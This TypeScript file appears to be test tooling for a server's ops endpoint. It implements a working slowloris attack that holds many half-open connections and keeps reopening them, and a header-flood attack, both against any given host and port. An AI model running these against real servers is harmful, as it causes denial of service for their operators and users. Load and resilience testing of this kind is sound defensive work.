/**
 * Attacks on the ops endpoint from real sockets: a slowloris (many connections that send a
 * request line and then one header byte every second, never finishing the headers; like the
 * original tool, every second it also reopens the connections the server closed), and a
 * header flood.
 */
import { connect, type Socket } from 'node:net';

export interface Slowloris {
  /** Connections open right now. */
  readonly open: () => number;
  /** Connections the server closed (and the flood reopened). */
  readonly closedByServer: () => number;
  stop(): Promise<void>;
}

/** Keep `n` half-open connections to `port` on `host`: opens them at once (at most `burst` per
 * 10 ms), then tops them up every second. */
export function slowloris(host: string, port: number, n: number, burst = 200): Slowloris {
  const sockets = new Set<Socket>();
  let closed = 0;
  let stopped = false;
  const open = (): void => {
    const s = connect({ host, port });
    sockets.add(s);
    s.on('connect', () => {
      s.write('GET /status HTTP/1.1\r\nHost: x\r\n');
    });
    s.on('error', () => undefined);
    s.on('close', () => {
      sockets.delete(s);
      if (!stopped) closed++;
    });
  };
  let opened = 0;
  const initial = setInterval(() => {
    for (let i = 0; i < burst && opened < n; i++, opened++) open();
    if (opened >= n) clearInterval(initial);
  }, 10);
  // One header byte per connection every second: the server sees progress, never an end.
  const drip = setInterval(() => {
    for (const s of sockets) if (!s.connecting && s.writable) s.write('X');
    if (opened >= n) for (let i = sockets.size; i < n; i++) open();
  }, 1000);
  return {
    open: () => sockets.size,
    closedByServer: () => closed,
    async stop() {
      stopped = true;
      clearInterval(initial);
      clearInterval(drip);
      const all = [...sockets];
      await Promise.all(
        all.map(
          (s) =>
            new Promise<void>((resolve) => {
              s.once('close', () => {
                resolve();
              });
              s.destroy();
            }),
        ),
      );
    },
  };
}

export interface FloodResult {
  /** The server's status line, or 'closed' when it hung up before one could be read. */
  readonly reply: string;
  /** Header bytes the server let in before it closed the connection. */
  readonly sent: number;
}

/** Sends one request with `bytes` of headers, as fast as the server takes them. */
export function headerFlood(host: string, port: number, bytes: number): Promise<FloodResult> {
  return new Promise((resolve) => {
    const s = connect({ host, port });
    let reply = '';
    let sent = 0;
    s.on('connect', () => {
      s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n');
      const chunk = `X-Flood-${'a'.repeat(1000)}: b\r\n`;
      const pump = (): void => {
        while (sent < bytes && s.writable) {
          sent += chunk.length;
          if (!s.write(chunk)) {
            s.once('drain', pump);
            return;
          }
        }
      };
      pump();
    });
    s.on('data', (d: Buffer) => (reply += d.toString('latin1')));
    s.on('error', () => undefined);
    s.on('close', () => {
      resolve({ reply: reply === '' ? 'closed' : (reply.split('\r\n')[0] ?? ''), sent });
    });
  });
}

/** Number of descriptors a process has open (Linux /proc). */
export async function fdsInUse(pid: number): Promise<number> {
  const { readdir } = await import('node:fs/promises');
  return (await readdir(`/proc/${pid}/fd`)).length;
}
